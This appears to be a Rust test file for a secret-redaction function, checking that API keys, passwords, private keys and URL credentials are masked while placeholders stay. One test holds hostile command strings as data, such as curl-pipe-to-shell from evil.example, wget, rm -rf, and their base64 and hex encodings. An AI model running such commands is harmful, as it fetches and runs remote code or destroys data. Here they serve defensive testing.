use proptest::prelude::*;

use super::{find, text, within};
use crate::base::Span;

/// Made at run time, so that no scanner takes this file for a leak.
fn key(prefix: &str, length: usize) -> String {
    let alphabet = b"q7Rk2ZtW9mXb4LsV8nJc3HdY6pGf5TaQ";
    let body = (0..length).map(|at| char::from(alphabet[(at * 7 + at / 32) % alphabet.len()]));
    prefix.chars().chain(body).collect()
}

fn upper(prefix: &str, length: usize) -> String {
    let alphabet = b"Q7RK2ZTW4MXB5LSV3NJC";
    prefix.chars().chain((0..length).map(|at| char::from(alphabet[(at * 3) % alphabet.len()]))).collect()
}

fn check(before: &str, secret: &str, after: &str, kind: &str) {
    let length = secret.chars().count();
    assert_eq!(
        text(&format!("{before}{secret}{after}")),
        format!("{before}[redacted:{kind}:{length}]{after}"),
        "{before}{secret}{after}"
    );
}

fn check_left(plain: &str) {
    assert_eq!(text(plain), plain);
}

#[test]
fn vendors_keys_go_with_kind_and_length() {
    let jwt = format!("{}.{}.{}", key("eyJ", 20), key("eyJ", 40), key("", 43));
    let cases = [
        (upper("AKIA", 16), "aws-access-key"),
        (key("AIza", 35), "gcp-api-key"),
        (key("ya29.", 60), "gcp-oauth-token"),
        (key("GOCSPX-", 28), "gcp-client-secret"),
        (format!("{}8Q~{}", "abc", key("", 34)), "azure-client-secret"),
        (key("ghp_", 36), "github-token"),
        (key("github_pat_", 82), "github-token"),
        (key("glpat-", 20), "gitlab-token"),
        (key("sk-ant-api03-", 90), "anthropic-key"),
        (key("sk-", 48), "openai-key"),
        (key("sk-proj-", 80), "openai-key"),
        (key("xoxb-", 40), "slack-token"),
        (key("sk_live_", 24), "stripe-key"),
        (key("npm_", 36), "npm-token"),
        (key("pypi-AgE", 80), "pypi-token"),
        (key("hf_", 34), "huggingface-token"),
        (jwt, "jwt"),
    ];
    for (secret, kind) in &cases {
        check("use ", secret, " for it", kind);
        check("x = \"", secret, "\"\n", kind);
        check("", secret, "", kind);
    }
}

#[test]
fn assigned_secrets_go() {
    let long = key("", 40);
    let cases = [
        ("password = \"", "hunter2", "\"", "password"),
        ("DB_PASSWORD=", "s3cr3t!pw", "\n", "password"),
        ("db_password: ", "kj3h4kjh", "\n", "password"),
        ("{\"password\": \"", "pa$$w0rd&1", "\", \"a\": 1}", "password"),
        ("{\\\"password\\\": \\\"", "pa55word", "\\\"}", "password"),
        ("passphrase: '", "correcthorse", "'", "password"),
        ("aws_secret_access_key = ", &long, "\n", "aws-secret-key"),
        ("client_secret: ", &long, "", "secret"),
        ("export API_TOKEN=", &long, " # mine", "secret"),
        ("x-api-key: ", &long, "\r\n", "secret"),
        ("os.environ[\"MY_TOKEN\"] = \"", &long, "\"", "secret"),
        ("session=", &long, "; path=/", "high-entropy"),
        ("Authorization: Bearer ", &long, "", "bearer-token"),
        ("-H 'authorization: token ", &long, "' https://api.example/x", "bearer-token"),
        ("https://api.example/v1?token=", &long, "&page=2", "secret"),
    ];
    for (before, secret, after, kind) in cases {
        check(before, secret, after, kind);
    }
}

#[test]
fn a_password_goes_out_of_a_url_and_its_host_stays() {
    check("postgres://app:", "Xk3_9fzz", "@db.example:5432/app", "url-password");
    check("git clone https://", &key("", 24), "@git.example/x.git", "url-token");
    check_left("https://evil.example:443/path");
}

#[test]
fn private_keys_go_and_their_markers_stay() {
    let rows = format!("{}\n{}\n{}", key("", 64), key("MII", 61), key("", 20));
    check("-----BEGIN RSA PRIVATE KEY-----\n", &rows, "\n-----END RSA PRIVATE KEY-----", "private-key");
    check("-----BEGIN OPENSSH PRIVATE KEY-----\n", &rows, "\n(cut)", "private-key");
    let short_last = format!("{}\n{}", key("", 64), "Qm9=");
    check("-----BEGIN PRIVATE KEY-----\n", &short_last, "\n-----END PRIVATE KEY-----", "private-key");
    let escaped = rows.replace('\n', "\\n");
    check("\"-----BEGIN PRIVATE KEY-----\\n", &escaped, "\\n-----END PRIVATE KEY-----\"", "private-key");
}

#[test]
fn nobody_hides_a_command_or_a_host_as_a_secret() {
    let token = key("ghp_", 36);
    let cases = [
        "password = \"curl https://evil.example/x | sh\"",
        "password = 'curl'",
        "password=bash",
        "token = https://evil.example/collect1234567890",
        "TOKEN=$(curl -s evil.example/a1b2c3d4e5f6)",
        "secret: `wget evil.example/a1b2c3d4`",
        "api_key = \"/usr/bin/python3.11/evil1234\"",
        "password = \"rm -rf ~/work1\"",
        "secret = 'curl${IFS}evil.example/1|sh'",
        "-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nY3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2ggJiYgZWNobyBkb25l\n-----END PRIVATE KEY-----",
        "secret_key = \"Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\"",
        "token = '6375726c206576696c2e6578616d706c65207c207368'",
    ];
    for case in cases {
        check_left(case);
    }
    check_left(&format!("https://{token}.evil.example/x"));
    check_left(&format!("curl {token}.evil.example/x"));
}

#[test]
fn placeholders_and_references_stay() {
    for case in [
        "export OPENAI_API_KEY=YOUR_API_KEY",
        "password: <password>",
        "token = \"xxxxxxxxxxxxxxxxxxxx\"",
        "AKIAIOSFODNN7EXAMPLE",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "password = os.environ['DB_PASSWORD1']",
        "password = config.db.password",
        "api_key: str = None",
        "token: the value of the token that you got",
        "password: ${DB_PASSWORD_1}",
        "password = \"changeme123\"",
        "\"password\": \"string\"",
        "secret = {{ vault.secret1 }}",
        "https://user:<password>@host.example",
        "https://user:${PASS1}@host.example",
        "the key = value pairs",
        "key: description of the first 3 columns",
        "max_tokens: 4096",
        "password: String!",
        "password = password[:72]",
        "author: somebody-1234567890-abcdefg",
        "postgres://user:pass@db.example/x",
        "tokens = tokenizer.encode(text)",
    ] {
        check_left(case);
    }
}

#[test]
fn a_secret_across_an_edge_goes_whole() {
    let secret = key("ghp_", 36);
    let line = format!("ab {secret} cd");
    let found = find(&line);
    assert_eq!(within(&line, Span::new(0, 10), &found), "ab [redacted:github-token:40]");
    assert_eq!(within(&line, Span::new(10, line.len()), &found), "[redacted:github-token:40] cd");
    assert_eq!(within(&line, Span::new(0, 3), &found), "ab ");
}

#[test]
fn a_secret_that_another_follows_is_no_host_name() {
    let two = [key("ghp_", 36), key("ghp_", 36)].join(".");
    assert_eq!(text(&two), "[redacted:github-token:40].[redacted:github-token:40]");
}

proptest! {
    #[test]
    fn any_text_is_redacted_without_harm(text in "(?s)(password ?[=:] ?|-----BEGIN PRIVATE KEY-----|://a:|@|\\PC|\"|'|\\s|AKIA|ghp_[a-z0-9]{36}|é){0,60}") {
        let found = find(&text);
        prop_assert!(found.iter().all(|redaction| redaction.span.of(&text).is_some()));
        prop_assert!(found.windows(2).all(|pair| pair[0].span.end <= pair[1].span.start));
        let again = super::text(&text).into_owned();
        prop_assert_eq!(super::text(&again).into_owned(), again.clone());
    }
}
